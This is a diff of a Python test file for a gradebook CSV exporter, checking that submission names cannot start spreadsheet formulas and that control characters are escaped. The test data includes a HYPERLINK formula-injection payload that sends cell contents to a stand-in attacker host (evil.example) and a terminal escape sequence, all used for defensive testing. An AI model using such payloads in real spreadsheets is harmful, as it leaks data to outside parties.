@@ -114,7 +114,7 @@ def test_markdown_shows_the_grade_parts_and_escaped_failures():
 
 
 @pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
-                                  "\tx", "\rx", "'=already quoted", "'plain", "Анна", "a=b"])
+                                  "\tx", "'=already quoted", "'plain", "Анна", "a=b"])
 def test_gradebook_cells_never_start_a_formula_and_read_back_exactly(name):
     row = to_csv_row(sample_report(), name)
     assert not row["submission"].startswith(("=", "+", "-", "@", "\t", "\r"))
@@ -132,6 +132,15 @@ def test_gradebook_cells_never_start_a_formula_and_read_back_exactly(name):
     assert read_name == name
     assert (report.status, report.score, report.parts["conv_forward_naive"].score, report.bonus) == \
         (GRADED, 11.0, 6.0, 5.0)
+
+
+@pytest.mark.parametrize("name", ["\rx", "=\x1b]0;owned\x07", "caf\udcff", "a\nb"])
+def test_gradebook_cells_show_control_characters_as_escapes(name):
+    row = to_csv_row(sample_report(), name)
+    assert not row["submission"].startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert not any(c in row["submission"] for c in "\r\n\x1b\x07\udcff")
+    assert "\\x" in row["submission"]
+    row["submission"].encode("utf-8")
 
 
 def test_escaping_covers_every_text_cell():
